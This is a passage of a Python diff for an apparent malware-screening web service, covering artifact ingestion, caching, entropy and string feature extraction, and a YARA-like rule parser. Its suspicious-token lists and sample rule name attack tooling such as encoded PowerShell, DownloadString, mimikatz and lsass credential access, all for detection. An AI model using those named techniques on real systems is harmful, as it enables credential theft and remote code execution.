+# Generated, content-hashed assets; never committed (see .gitignore).
+STATIC_BUILD_DIR = os.path.join(STATIC_DIR, "build")
+IMMUTABLE_CACHE_CONTROL = "public, max-age=31536000, immutable"
+FINGERPRINTED_ASSET = re.compile(r"\.[0-9a-f]{12}\.\w+$")
+
+
+class CachedStaticFiles(StaticFiles):
+    """StaticFiles that lets browsers and CDNs keep fingerprinted files forever.
+
+    A file whose name carries a content hash can never change under the same
+    URL, so it is served as immutable; everything else keeps the default
+    ETag/Last-Modified revalidation.
+    """
+
+    def file_response(self, full_path, stat_result, scope, status_code: int = 200) -> Response:
+        response = super().file_response(full_path, stat_result, scope, status_code)
+        if FINGERPRINTED_ASSET.search(os.fspath(full_path)):
+            response.headers["Cache-Control"] = IMMUTABLE_CACHE_CONTROL
+        return response
+
+
+def publish_static_asset(name: str, data: bytes) -> str | None:
+    """Write ``data`` as ``static/build/<stem>.<hash><ext>`` and return its URL.
+
+    Returns None when the static directory is not writable so callers can fall
+    back to inlining.
+    """
+    stem, ext = os.path.splitext(name)
+    digest = hashlib.sha256(data).hexdigest()[:12]
+    filename = f"{stem}.{digest}{ext}"
+    path = os.path.join(STATIC_BUILD_DIR, filename)
+    try:
+        if not os.path.exists(path):
+            os.makedirs(STATIC_BUILD_DIR, exist_ok=True)
+            fd, tmp = tempfile.mkstemp(dir=STATIC_BUILD_DIR, prefix=".tmp-")
+            with os.fdopen(fd, "wb") as out:
+                out.write(data)
+            os.replace(tmp, path)
+    except OSError:
+        return None
+    return f"/static/build/{filename}"
+
+
+# static/ only holds generated files, so a bare checkout may not have it yet.
+app.mount("/static", CachedStaticFiles(directory=STATIC_DIR, check_dir=False), name="static")
+
+
+def approx_size(value) -> int:
+    return len(json.dumps(value, default=str))
+
+
+def dump_json(value) -> bytes:
+    if orjson is not None:
+        return orjson.dumps(value)
+    return json.dumps(value, separators=(",", ":"), ensure_ascii=False).encode()
+
+
+class FastJSONResponse(Response):
+    """JSON response that skips FastAPI's jsonable_encoder and accepts pre-encoded bytes."""
+
+    media_type = "application/json"
+
+    def render(self, content) -> bytes:
+        if isinstance(content, bytes):
+            return content
+        return dump_json(content)
+
+
+class BoundedCache:
+    """Thread-safe LRU cache with an optional TTL and an approximate byte budget."""
+
+    def __init__(self, max_entries: int, max_bytes: int | None = None, ttl: float | None = None):
+        self.max_entries = max_entries
+        self.max_bytes = max_bytes
+        self.ttl = ttl
+        self._data: OrderedDict = OrderedDict()  # key -> (expires_at, size, value)
+        self._lock = threading.Lock()
+        self.bytes = 0
+        self.hits = 0
+        self.misses = 0
+        self.evictions = 0
+
+    def get(self, key):
+        with self._lock:
+            entry = self._data.get(key)
+            if entry is not None and entry[0] is not None and entry[0] < time.monotonic():
+                self._drop(key)
+                entry = None
+            if entry is None:
+                self.misses += 1
+                return None
+            self._data.move_to_end(key)
+            self.hits += 1
+            return entry[2]
+
+    def put(self, key, value, size: int | None = None) -> None:
+        size = approx_size(value) if size is None else size
+        if self.max_bytes is not None and size > self.max_bytes:
+            return
+        expires_at = time.monotonic() + self.ttl if self.ttl else None
+        with self._lock:
+            if key in self._data:
+                self._drop(key)
+            self._data[key] = (expires_at, size, value)
+            self.bytes += size
+            while len(self._data) > self.max_entries or (
+                self.max_bytes is not None and self.bytes > self.max_bytes
+            ):
+                self._drop(next(iter(self._data)))
+                self.evictions += 1
+
+    def _drop(self, key) -> None:
+        _, size, _ = self._data.pop(key)
+        self.bytes -= size
+
+    def __len__(self) -> int:
+        return len(self._data)
+
+    def stats(self) -> dict:
+        lookups = self.hits + self.misses
+        return {
+            "entries": len(self._data),
+            "bytes": self.bytes,
+            "hits": self.hits,
+            "misses": self.misses,
+            "evictions": self.evictions,
+            "hit_ratio": round(self.hits / lookups, 4) if lookups else 0.0,
+        }
+
+
+# Verdicts keyed by artifact SHA-256: the same attachment uploaded to many
+# mailboxes is only analysed once while its entry is fresh.
+VERDICT_CACHE = BoundedCache(
+    max_entries=int(os.environ.get("PRECLEAR_VERDICT_CACHE_ENTRIES", 10000)),
+    max_bytes=int(os.environ.get("PRECLEAR_VERDICT_CACHE_BYTES", 64 * 1024 * 1024)),
+    ttl=float(os.environ.get("PRECLEAR_VERDICT_CACHE_TTL", 3600)),
+)
+
+
+class ArtifactStream:
+    """Chunked, re-readable view over an ingested artifact.
+
+    Wraps the spooled upload file rather than a bytes copy, so handing it to
+    the analysis stages never materialises the whole artifact in memory.
+    """
+
+    def __init__(self, fileobj, filename: str, size: int, sha256: str):
+        self._file = fileobj
+        self.filename = filename
+        self.size = size
+        self.sha256 = sha256
+
+    def iter_chunks(self, chunk_size: int = CHUNK_SIZE):
+        self._file.seek(0)
+        while True:
+            chunk = self._file.read(chunk_size)
+            if not chunk:
+                return
+            yield chunk
+
+    def reader(self):
+        """The underlying seekable file, rewound (for archive readers)."""
+        self._file.seek(0)
+        return self._file
+
+    def spill(self) -> str:
+        """Write the artifact to a named temp file (for process-pool workers); caller unlinks."""
+        fd, path = tempfile.mkstemp(prefix="preclear-", suffix=".artifact")
+        with os.fdopen(fd, "wb") as out:
+            for chunk in self.iter_chunks():
+                out.write(chunk)
+        return path
+
+    def close(self) -> None:
+        self._file.close()
+
+
+def iter_artifact_chunks(artifact, chunk_size: int = CHUNK_SIZE):
+    if isinstance(artifact, (bytes, bytearray, memoryview)):
+        view = memoryview(artifact)
+        for start in range(0, len(view), chunk_size):
+            yield view[start:start + chunk_size]
+        return
+    yield from artifact.iter_chunks(chunk_size)
+
+
+def _ingest_file(fileobj, filename: str) -> ArtifactStream:
+    digest = hashlib.sha256()
+    size = 0
+    fileobj.seek(0)
+    while True:
+        chunk = fileobj.read(CHUNK_SIZE)
+        if not chunk:
+            break
+        size += len(chunk)
+        if size > MAX_ARTIFACT_BYTES:
+            raise ArtifactTooLarge(size)
+        digest.update(chunk)
+    return ArtifactStream(fileobj, filename, size, digest.hexdigest())
+
+
+def ingest_stream(src, filename: str) -> ArtifactStream:
+    """Copy a non-seekable stream (e.g. an archive member) into a spool while hashing it."""
+    spool = tempfile.SpooledTemporaryFile(max_size=SPOOL_MEMORY_BYTES)
+    digest = hashlib.sha256()
+    size = 0
+    try:
+        while True:
+            chunk = src.read(CHUNK_SIZE)
+            if not chunk:
+                break
+            size += len(chunk)
+            if size > MAX_ARTIFACT_BYTES:
+                raise ArtifactTooLarge(size)
+            digest.update(chunk)
+            spool.write(chunk)
+    except BaseException:
+        spool.close()
+        raise
+    return ArtifactStream(spool, filename, size, digest.hexdigest())
+
+
+async def ingest_upload(file: UploadFile) -> ArtifactStream:
+    # Starlette's multipart parser spools the part before the handler runs and has
+    # no hook on its writes, so the digest is a second pass over the spool (usually
+    # still in the page cache). Hashing hundreds of MB is CPU work; keep it off the
+    # event loop.
+    artifact = await run_in_threadpool(_ingest_file, file.file, file.filename or "uploaded_file")
+    INGEST_COUNTS["artifacts"] += 1
+    INGEST_COUNTS["bytes"] += artifact.size
+    return artifact
+
+
+def artifact_too_large_response(api: bool = False) -> Response:
+    if api:
+        return FastJSONResponse(
+            {"detail": f"Artifact exceeds the {MAX_ARTIFACT_BYTES} byte limit."}, status_code=413
+        )
+    content = f"""
+<div class="card">
+  <h2>Artifact too large</h2>
+  <p class="subtle">Uploads are limited to {MAX_ARTIFACT_BYTES // (1024 * 1024)} MB per artifact.</p>
+  <p class="subtle"><a href="/">Back to home</a></p>
+</div>
+"""
+    return HTMLResponse(page_shell(content, "Upload Rejected"), status_code=413)
+
+
+def analysis_busy_response(api: bool = False) -> Response:
+    headers = {"Retry-After": str(ANALYSIS_RETRY_AFTER)}
+    if api:
+        return FastJSONResponse(
+            {"detail": "Analysis queue is full; retry shortly."}, status_code=429, headers=headers
+        )
+    content = f"""
+<div class="card">
+  <h2>Analysis queue is full</h2>
+  <p class="subtle">Too many artifacts are being analysed right now. Please retry in {ANALYSIS_RETRY_AFTER} seconds.</p>
+  <p class="subtle"><a href="/">Back to home</a></p>
+</div>
+"""
+    return HTMLResponse(page_shell(content, "Busy"), status_code=429, headers=headers)
+
+
+# --- Static feature engine ---------------------------------------------------
+#
+# Every pass below is a vectorised NumPy operation over one chunk, so scoring
+# cost is linear in artifact size with a small constant and no per-byte Python.
+
+ENTROPY_WINDOW = 4096
+ENTROPY_MAX_WINDOWS = 2048  # larger artifacts get an evenly strided sample
+HIGH_ENTROPY = 7.2
+MIN_STRING_LEN = 6
+
+MAGIC_SIGNATURES = [
+    (b"MZ", "pe"),
+    (b"\x7fELF", "elf"),
+    (b"\xca\xfe\xba\xbe", "macho"),
+    (b"\xcf\xfa\xed\xfe", "macho"),
+    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "ole"),
+    (b"%PDF", "pdf"),
+    (b"{\\rtf", "rtf"),
+    (b"PK\x03\x04", "zip"),
+    (b"\x1f\x8b", "gzip"),
+    (b"7z\xbc\xaf\x27\x1c", "7z"),
+    (b"Rar!\x1a\x07", "rar"),
+    (b"\x89PNG\r\n\x1a\n", "png"),
+    (b"\xff\xd8\xff", "jpeg"),
+    (b"GIF8", "gif"),
+    (b"#!", "script"),
+    (b"<?php", "script"),
+]
+
+FILE_TYPE_RISK = {
+    "pe": 20, "elf": 20, "macho": 20,
+    "ole": 15, "rtf": 15, "script": 15,
+    "pdf": 8, "zip": 8, "gzip": 8, "7z": 8, "rar": 8,
+}
+
+# Matched case-insensitively against printable-string regions only.
+SUSPICIOUS_TOKENS = {
+    "script": [
+        b"powershell", b"-encodedcommand", b"frombase64string", b"invoke-expression",
+        b"wscript.shell", b"cmd.exe /c", b"<script", b"mshta", b"regsvr32", b"rundll32",
+    ],
+    "network": [
+        b"http://", b"https://", b"downloadstring", b"net.webclient",
+        b"invoke-webrequest", b"urldownloadtofile",
+    ],
+    "privilege": [
+        b"mimikatz", b"sekurlsa", b"lsass", b"sedebugprivilege", b"token::elevate",
+        b"hklm\\sam",
+    ],
+}
+
+_PRINTABLE_LOW = np.uint8(0x20)
+_PRINTABLE_SPAN = np.uint8(0x7F - 0x20)
+
+
+def detect_file_type(head: bytes) -> str:
+    for magic, file_type in MAGIC_SIGNATURES:
+        if head.startswith(magic):
+            return file_type
+    if head and all(32 <= b < 127 or b in (9, 10, 13) for b in head[:512]):
+        return "text"
+    return "binary"
+
+
+def _shannon_entropy(counts: np.ndarray) -> np.ndarray:
+    # counts: (..., 256) byte counts -> entropy in bits per byte along the last axis.
+    totals = counts.sum(axis=-1, keepdims=True)
+    p = counts / np.maximum(totals, 1)
+    with np.errstate(divide="ignore", invalid="ignore"):
+        terms = np.where(p > 0, p * np.log2(p), 0.0)
+    return -terms.sum(axis=-1)
+
+
+def _run_length(mask: np.ndarray, from_end: bool = False) -> int:
+    # Length of the leading (or trailing) run of True values.
+    view = mask[::-1] if from_end else mask
+    stop = np.argmin(view)
+    return len(view) if view[stop] else int(stop)
+
+
+class FeatureAccumulator:
+    """Incremental static-feature extraction over a sequence of chunks."""
+
+    def __init__(self, total_size: int, rules: "RuleSet | None" = None):
+        self.size = 0
+        self.rules = (RULES if rules is None else rules).scanner()
+        self.head = b""
+        self.histogram = np.zeros(256, dtype=np.int64)
+        self.string_count = 0
+        # suspicious-token matcher; hits are read back in finish()
+        self.tokens = TOKEN_RULES.scanner()
+        self._windows: list[np.ndarray] = []
+        self._window_stride = max(1, -(-total_size // ENTROPY_WINDOW) // ENTROPY_MAX_WINDOWS)
+        self._window_index = 0
+        self._window_carry = b""
+        self._run_carry = 0
+
+    def update(self, chunk) -> None:
+        chunk = bytes(chunk)
+        if not chunk:
+            return
+        if len(self.head) < 4096:
+            self.head += chunk[:4096 - len(self.head)]
+        data = np.frombuffer(chunk, dtype=np.uint8)
+
+        self._update_histogram(data)
+        self._update_windows(chunk)
+        printable = (data - _PRINTABLE_LOW) < _PRINTABLE_SPAN
+        in_strings = self._update_strings(printable)
+        self._update_tokens(data, in_strings)
+        self.rules.update(chunk)
+        self.size += len(chunk)
+
+    def _update_histogram(self, data: np.ndarray) -> None:
+        # Counting byte pairs halves the number of bincount elements; fold back to 256 bins.
+        even = len(data) & ~1
+        pairs = np.bincount(data[:even].view(np.uint16), minlength=65536).reshape(256, 256)
+        self.histogram += pairs.sum(axis=0) + pairs.sum(axis=1)
+        if even != len(data):
+            self.histogram[data[-1]] += 1
+
+    def _update_windows(self, chunk: bytes) -> None:
+        buf = self._window_carry + chunk
+        n = len(buf) // ENTROPY_WINDOW
+        self._window_carry = buf[n * ENTROPY_WINDOW:]
+        if not n:
+            return
+        first = self._window_index
+        self._window_index += n
+        offset = (-first) % self._window_stride
+        if offset >= n:
+            return
+        windows = np.frombuffer(buf, dtype=np.uint8, count=n * ENTROPY_WINDOW).reshape(n, ENTROPY_WINDOW)
+        windows = windows[offset::self._window_stride]
+        rows = np.arange(len(windows), dtype=np.intp)[:, None] * 256
+        counts = np.bincount((windows + rows).ravel(), minlength=len(windows) * 256)
+        self._windows.append(_shannon_entropy(counts.reshape(-1, 256)))
+
+    def _update_strings(self, printable: np.ndarray) -> np.ndarray:
+        n = len(printable)
+        k = MIN_STRING_LEN
+        if n < k:
+            starts = np.zeros(0, dtype=bool)
+        else:
+            # starts[i]: printable[i:i+k] is all True, i.e. a string of >= k bytes covers i.
+            starts = printable[:n - k + 1].copy()
+            for shift in range(1, k):
+                starts &= printable[shift:n - k + 1 + shift]
+        count = int(np.count_nonzero(starts[1:] & ~starts[:-1])) + int(starts[:1].sum())
+
+        # The leading run continues the previous chunk's trailing run.
+        lead = _run_length(printable)
+        counted = lead >= k
+        if self._run_carry:
+            should = self._run_carry < k <= self._run_carry + lead
+        else:
+            should = counted
+        count += int(should) - int(counted)
+        self.string_count += count
+
+        if lead == n:
+            self._run_carry += n
+        else:
+            self._run_carry = _run_length(printable, from_end=True)
+
+        # Mask of bytes that belong to a string (plus runs touching the chunk edges,
+        # which may continue across the boundary).
+        in_strings = np.zeros(n, dtype=bool)
+        if len(starts):
+            in_strings[:len(starts)] = starts
+            for shift in range(1, k):
+                in_strings[shift:shift + len(starts)] |= starts
+        in_strings[:lead] = True
+        tail = self._run_carry if lead != n else n
+        if tail:
+            in_strings[n - tail:] = True
+        return in_strings
+
+    def _update_tokens(self, data: np.ndarray, in_strings: np.ndarray) -> None:
+        strings = int(np.count_nonzero(in_strings))
+        if strings == len(data):
+            text = data.tobytes()
+        elif strings * 2 > len(data):
+            # Mostly text (line breaks and tabs end strings): zeroing the gaps is
+            # much cheaper than compacting, and tokens cannot span a 0x00 either way.
+            text = (data * in_strings).tobytes()
+        else:
+            # Keep only string bytes, with a single 0x00 separator after each run, so
+            # the token prefilter touches a fraction of a binary artifact.
+            keep = in_strings.copy()
+            keep[0] = True
+            keep[1:] |= in_strings[:-1]
+            compact = data[keep]
+            compact[~in_strings[keep]] = 0
+            text = compact.tobytes()
+        # Presence is all the score needs; the scanner stops looking for a token
+        # after its first hit.
+        self.tokens.update(text)
+
+    def finish(self) -> dict:
+        if self._window_carry and not self._windows:
+            tail = np.frombuffer(self._window_carry, dtype=np.uint8)
+            self._windows.append(_shannon_entropy(np.bincount(tail, minlength=256)[None, :]))
+        windows = np.concatenate(self._windows) if self._windows else np.zeros(0)
+        printable = int(self.histogram[32:127].sum() + self.histogram[[9, 10, 13]].sum())
+        found = {name for name, _ in self.tokens.hits}
+        token_hits = {
+            category: sorted(t.decode() for t in tokens if t.decode() in found)
+            for category, tokens in SUSPICIOUS_TOKENS.items()
+        }
+        return {
+            "file_type": detect_file_type(self.head),
+            "size_bytes": self.size,
+            "entropy": round(float(_shannon_entropy(self.histogram)), 3),
+            "max_window_entropy": round(float(windows.max()), 3) if len(windows) else 0.0,
+            "high_entropy_ratio": round(float((windows >= HIGH_ENTROPY).mean()), 3) if len(windows) else 0.0,
+            "printable_ratio": round(printable / self.size, 3) if self.size else 0.0,
+            "string_count": self.string_count,
+            "token_hits": token_hits,
+            "rule_hits": self.rules.finish(),
+        }
+
+
+def extract_features(artifact) -> dict:
+    total = len(artifact) if isinstance(artifact, (bytes, bytearray, memoryview)) else artifact.size
+    acc = FeatureAccumulator(total)
+    for chunk in iter_artifact_chunks(artifact):
+        acc.update(chunk)
+    return acc.finish()
+
+
+def score_features(features: dict) -> int:
+    hits = features["token_hits"]
+    score = 1
+    score += FILE_TYPE_RISK.get(features["file_type"], 0)
+    # Packed or encrypted payloads push most windows towards 8 bits/byte.
+    score += round(20 * features["high_entropy_ratio"])
+    score += min(30, 12 * len(hits["script"]))
+    score += min(25, 10 * len(hits["network"]))
+    score += min(25, 15 * len(hits["privilege"]))
+    # Signature hits are scored separately by the "signatures" pipeline stage.
+    return max(1, min(100, score))
+
+
+BEHAVIOR_FLAGS = {
+    "script": "Observed suspicious script execution pattern",
+    "network": "Outbound network callback behavior detected",
+    "privilege": "Privilege escalation / credential access behavior",
+}
+
+
+def behavioral_analysis(artifact):
+    # artifact: raw bytes or an ArtifactStream; only ever read via iter_artifact_chunks.
+    features = extract_features(artifact)
+    score = score_features(features)
+    # A flag is raised by hits in its own token category, not by the score band.
+    behavior_flags = [flag for category, flag in BEHAVIOR_FLAGS.items() if features["token_hits"][category]]
+    return score, behavior_flags, features
+
+
+# --- Signature rules -----------------------------------------------------------
+#
+# YARA-like rule files (rules/*.rules):
+#
+#     rule Encoded_PowerShell : script
+#     {
+#         meta:
+#             description = "PowerShell launched with an encoded command"
+#             score = 20
+#         strings:
+#             $ps = "powershell" nocase
+#             $enc = "-encodedcommand" nocase
+#             $mz = { 4D 5A ?? 00 }
+#             $b64 = /FromBase64String\s*\(/i
+#         condition:
+#             $ps and ($enc or $b64)
+#     }
+#
+# Conditions support and/or/not, parentheses, ``$id``, ``any|all|N of them``
+# and ``any|all|N of ($a, $b*)``.
+#
+# All text and hex strings of all rules are compiled into one prefilter: a
+# 65536-entry table of the byte pairs they are anchored on. Each chunk is
+# turned into pair codes and looked up in that table in one vectorised pass;
+# only strings whose anchor pair actually occurs are then confirmed with a
+# C-level substring (or hex regex) search. Regex strings have no anchor and
+# are searched directly, once per chunk until they first match.
+
+RULES_DIR = os.environ.get("PRECLEAR_RULES_DIR", "rules")
+RULE_REGEX_OVERLAP = 256  # bytes of context a regex match may span across chunks
+RULE_MAX_SCORE = 40
+# Anchor hits per MiB of chunk before a string switches to one full search. A
+# probe costs a few microseconds, a full search of 1 MiB about a millisecond (far
+# more for a regex). ASCII case folding makes a random pair hit four times as often
+# as its 1/65536 share, about 64 times per MiB, so the limit sits well above that.
+RULE_CANDIDATE_LIMIT = 512
+
+# Rough byte frequency rank in typical artifacts; anchors avoid the common ones.
+_COMMON_BYTES = b"\x00\xff \x01\n\r\tetaoinsrhldcumfpgwybvkxjqz0123456789ETAOINSRHLDCUMFPGWYBVKXJQZ.,-_/\\"
+_BYTE_COMMONNESS = np.zeros(256, dtype=np.int32)
+for _rank, _b in enumerate(_COMMON_BYTES):
+    _BYTE_COMMONNESS[_b] = len(_COMMON_BYTES) - _rank
+
+
+class RuleSyntaxError(ValueError):
+    pass
+
+
+def _pair_code(b0: int, b1: int) -> int:
+    return b0 | (b1 << 8)
+
+
+def _best_anchor(segments: list[tuple[int, bytes]]) -> tuple[int, int] | None:
+    """(pair code, offset in pattern) of the least common adjacent byte pair."""
+    best = None
+    for start, segment in segments:
+        for i in range(len(segment) - 1):
+            cost = _BYTE_COMMONNESS[segment[i]] + _BYTE_COMMONNESS[segment[i + 1]]
+            if best is None or cost < best[0]:
+                best = (cost, _pair_code(segment[i], segment[i + 1]), start + i)
+    return best[1:] if best else None
+
+
+def _regex_atom(pattern: str) -> bytes:
+    """Longest literal run every match of ``pattern`` must contain ("" if unknown).
+
+    Only top-level literals of an alternation-free pattern are considered, so
+    the atom is always safe to use as a prefilter anchor.
+    """
+    if "|" in pattern:
+        return b""
+    best = run = ""
+    depth = 0
+    i = 0
+    while i < len(pattern):
+        ch = pattern[i]
+        literal = None
+        width = 1
+        if ch == "\\":
+            width = 2
+            escaped = pattern[i + 1:i + 2]
+            if escaped == "x":
+                width = 4
+            elif escaped.isdigit():
+                # Octal escape or group reference: swallow its trailing digits too.
+                while width < 4 and pattern[i + width:i + width + 1].isdigit():
+                    width += 1
+            elif escaped and not escaped.isalnum() and depth == 0:
+                literal = escaped
+        elif ch == "[":
+            # Skip the whole character class.
+            j = i + 1
+            while j < len(pattern) and (pattern[j] != "]" or j == i + 1):
+                j += 2 if pattern[j] == "\\" else 1
+            width = j - i + 1
+        elif ch == "{":
+            width = pattern.find("}", i) - i + 1 if "}" in pattern[i:] else 1
+        elif ch == "(":
+            depth += 1
+        elif ch == ")":
+            depth -= 1
+        elif ch not in ".^$*+?" and depth == 0:
+            literal = ch
+        following = pattern[i + width:i + width + 1]
+        if literal is not None and following in ("?", "*", "{"):
+            literal = None
+        if literal is None:
+            best = max(best, run, key=len)
+            run = ""
+        else:
+            run += literal
+            if following == "+":
+                best = max(best, run, key=len)
+                run = ""
+        i += width
+    best = max(best, run, key=len)
+    try:
+        return best.encode("ascii")
+    except UnicodeEncodeError:
+        return b""
+
+
+class RuleString:
+    """One ``$id = ...`` pattern of a rule."""
+
+    __slots__ = ("rule", "ident", "nocase", "literal", "regex", "atom", "anchor", "offset", "length")
+
+    def __init__(self, rule: str, ident: str, nocase=False, literal=None, regex=None, atom=None, anchor=None, length=0):
+        self.rule = rule
+        self.ident = ident
+        self.nocase = nocase
+        self.literal = literal
+        self.regex = regex
+        self.atom = atom
+        # anchor: (pair code, offset of the pair from the match start, or from the
+        # start of the atom for regexes, whose atom can sit anywhere in a match).
+        self.anchor, self.offset = anchor if anchor is not None else (None, None)
+        self.length = length
+
+    def matches(self, text: bytes) -> bool:
+        if self.literal is not None:
+            return self.literal in text
+        if self.atom is not None and self.atom not in text:
+            return False
+        return self.regex.search(text) is not None
+
+    def matches_at(self, text: bytes, pos: int) -> bool:
+        """Check for a match whose anchor pair sits at ``pos``."""
+        start = pos - self.offset
+        if self.atom is not None:
+            if start < 0 or not text.startswith(self.atom, start):
+                return False
+            return self.regex.search(text, max(0, pos - RULE_REGEX_OVERLAP), pos + RULE_REGEX_OVERLAP) is not None
+        if start < 0:
+            return False
+        if self.literal is not None:
+            return text.startswith(self.literal, start)
+        return self.regex.match(text, start) is not None
+
+
+_TEXT_ESCAPES = {"n": b"\n", "t": b"\t", "r": b"\r", "\\": b"\\", '"': b'"', "0": b"\x00"}
+
+
+def _parse_text_string(value: str, where: str) -> bytes:
+    out = bytearray()
+    i = 0
+    while i < len(value):
+        ch = value[i]
+        if ch != "\\":
+            out += ch.encode()
+            i += 1
+        elif value[i + 1:i + 2] == "x":
+            try:
+                out.append(int(value[i + 2:i + 4], 16))
+            except ValueError:
+                raise RuleSyntaxError(f"{where}: bad \\x escape") from None
+            i += 4
+        elif value[i + 1:i + 2] in _TEXT_ESCAPES:
+            out += _TEXT_ESCAPES[value[i + 1]]
+            i += 2
+        else:
+            raise RuleSyntaxError(f"{where}: unknown escape {value[i:i + 2]!r}")
+    return bytes(out)
+
+
+def _parse_rule_string(rule: str, ident: str, spec: str, where: str) -> RuleString:
+    spec = spec.strip()
+    if spec.startswith('"'):
+        m = re.fullmatch(r'"((?:[^"\\]|\\.)*)"\s*(nocase)?', spec)
+        if not m:
+            raise RuleSyntaxError(f"{where}: bad text string {spec!r}")
+        literal = _parse_text_string(m.group(1), where)
+        nocase = bool(m.group(2))
+        if nocase:
+            literal = literal.lower()
+        if len(literal) < 2:
+            raise RuleSyntaxError(f"{where}: strings must be at least 2 bytes")
+        return RuleString(rule, ident, nocase, literal=literal,
+                          anchor=_best_anchor([(0, literal)]), length=len(literal))
+    if spec.startswith("{"):
+        m = re.fullmatch(r"\{([0-9A-Fa-f?\s]*)\}", spec)
+        if not m:
+            raise RuleSyntaxError(f"{where}: bad hex string {spec!r}")
+        tokens = m.group(1).split()
+        if any(len(t) != 2 or (t != "??" and "?" in t) for t in tokens):
+            raise RuleSyntaxError(f"{where}: hex strings take whole bytes or ??")
+        # Contiguous fixed-byte runs; the anchor must come from one of them.
+        segments, current, start = [], bytearray(), 0
+        for pos, token in enumerate(tokens):
+            if token == "??":
+                if current:
+                    segments.append((start, bytes(current)))
+                current = bytearray()
+                start = pos + 1
+            else:
+                current.append(int(token, 16))
+        if current:
+            segments.append((start, bytes(current)))
+        anchor = _best_anchor(segments)
+        if anchor is None:
+            raise RuleSyntaxError(f"{where}: hex strings need two adjacent fixed bytes")
+        if "??" not in tokens:
+            return RuleString(rule, ident, literal=bytes(int(t, 16) for t in tokens),
+                              anchor=anchor, length=len(tokens))
+        pattern = b"".join(b"." if t == "??" else re.escape(bytes([int(t, 16)])) for t in tokens)
+        return RuleString(rule, ident, regex=re.compile(pattern, re.DOTALL),
+                          anchor=anchor, length=len(tokens))
+    if spec.startswith("/"):
+        m = re.fullmatch(r"/(.*)/([is]*)", spec)
+        if not m:
+            raise RuleSyntaxError(f"{where}: bad regex {spec!r}")
+        flags = (re.IGNORECASE if "i" in m.group(2) else 0) | (re.DOTALL if "s" in m.group(2) else 0)
+        try:
+            regex = re.compile(m.group(1).encode(), flags)
+        except re.error as exc:
+            raise RuleSyntaxError(f"{where}: {exc}") from None
+        # Regexes with a literal atom join the prefilter; the rest run on every chunk.
+        atom = _regex_atom(m.group(1))
+        nocase = bool(flags & re.IGNORECASE)
+        if nocase:
+            atom = atom.lower()
+        if len(atom) < 2:
+            return RuleString(rule, ident, nocase, regex=regex, length=RULE_REGEX_OVERLAP)
+        return RuleString(rule, ident, nocase, regex=regex, atom=atom,
+                          anchor=_best_anchor([(0, atom)]), length=RULE_REGEX_OVERLAP)
+    raise RuleSyntaxError(f"{where}: expected \"text\", {{ hex }} or /regex/")
+
+
+_CONDITION_TOKEN = re.compile(r"\s*(\$\w*\*?|\w+|[(),])")
+
+
+def _compile_condition(source: str, idents: list[str], where: str):
+    """Compile a condition to a predicate over the set of matched string ids."""
+    tokens = []
+    pos = 0
+    source = source.strip()
+    while pos < len(source):
+        m = _CONDITION_TOKEN.match(source, pos)
+        if not m:
+            raise RuleSyntaxError(f"{where}: unexpected {source[pos:]!r} in condition")
+        tokens.append(m.group(1))
+        pos = m.end()
+        while pos < len(source) and source[pos].isspace():
+            pos += 1
+    tokens.append(None)
+    i = 0
+
+    def peek():
+        return tokens[i]
+
+    def take(expected=None):
+        nonlocal i
+        token = tokens[i]
+        if expected is not None and token != expected:
+            raise RuleSyntaxError(f"{where}: expected {expected!r} in condition, got {token!r}")
+        i += 1
+        return token
+
+    def expand(ref: str) -> list[str]:
+        if ref.endswith("*"):
+            found = [x for x in idents if x.startswith(ref[:-1])]
+        else:
+            found = [ref] if ref in idents else []
+        if not found:
+            raise RuleSyntaxError(f"{where}: condition references undefined {ref}")
+        return found
+
+    def parse_or():
+        left = parse_and()
+        while peek() == "or":
+            take()
+            right = parse_and()
+            left = (lambda a, b: lambda hits: a(hits) or b(hits))(left, right)
+        return left
+
+    def parse_and():
+        left = parse_not()
+        while peek() == "and":
+            take()
+            right = parse_not()
+            left = (lambda a, b: lambda hits: a(hits) and b(hits))(left, right)
+        return left
+
+    def parse_not():
+        token = peek()
+        if token == "not":
+            take()
+            inner = parse_not()
+            return lambda hits: not inner(hits)
+        if token == "(":
+            take()
+            inner = parse_or()
+            take(")")
+            return inner
+        if token in ("true", "false"):
+            take()
+            value = token == "true"
+            return lambda hits: value
+        if token is not None and token.startswith("$") and not token.endswith("*"):
+            ident = expand(take())[0]
+            return lambda hits: ident in hits
+        if token in ("any", "all") or (token is not None and token.isdigit()):
+            take()
+            take("of")
+            if peek() == "them":
+                take()
+                members = list(idents)
+            else:
+                take("(")
+                members = expand(take())
+                while peek() == ",":
+                    take()
+                    members += expand(take())
+                take(")")
+            members = frozenset(members)
+            need = 1 if token == "any" else len(members) if token == "all" else int(token)
+            return lambda hits: len(members & hits) >= need
+        raise RuleSyntaxError(f"{where}: unexpected {token!r} in condition")
+
+    predicate = parse_or()
+    if peek() is not None:
+        raise RuleSyntaxError(f"{where}: trailing {peek()!r} in condition")
+    return predicate
+
+
+class Rule:
+    __slots__ = ("name", "tags", "description", "score", "strings", "condition")
+
+    def __init__(self, name, tags, description, score, strings, condition):
+        self.name = name
+        self.tags = tags
+        self.description = description
+        self.score = score
+        self.strings = strings
+        self.condition = condition
+
+
+_RULE_BLOCK = re.compile(r"^\s*rule\s+(\w+)\s*(?::\s*([\w ]+?))?\s*\{(.*?)^\s*\}", re.MULTILINE | re.DOTALL)
+_RULE_SECTION = re.compile(r"^\s*(meta|strings|condition)\s*:", re.MULTILINE)
+
+
+def parse_rules(text: str, origin: str = "<rules>") -> list[Rule]:
+    text = re.sub(r"^\s*//.*$", "", text, flags=re.MULTILINE)
+    leftover = _RULE_BLOCK.sub("", text).strip()
+    if leftover:
+        # Typically a rule whose closing brace is not on a line of its own.
+        raise RuleSyntaxError(f"{origin}: cannot parse {leftover[:60]!r}")
+    rules = []
+    for block in _RULE_BLOCK.finditer(text):
+        name, tags, body = block.group(1), (block.group(2) or "").split(), block.group(3)
+        where = f"{origin}: rule {name}"
+        sections = {}
+        marks = list(_RULE_SECTION.finditer(body))
+        for mark, following in zip(marks, marks[1:] + [None]):
+            sections[mark.group(1)] = body[mark.end():following.start() if following else len(body)]
+        if "condition" not in sections:
+            raise RuleSyntaxError(f"{where}: missing condition")
+
+        meta = {}
+        for line in sections.get("meta", "").strip().splitlines():
+            key, sep, value = line.partition("=")
+            if not sep:
+                raise RuleSyntaxError(f"{where}: bad meta line {line.strip()!r}")
+            value = value.strip()
+            meta[key.strip()] = value[1:-1] if value.startswith('"') and value.endswith('"') else value
+
+        strings = []
+        for line in sections.get("strings", "").strip().splitlines():
+            ident, sep, spec = line.partition("=")
+            ident = ident.strip()
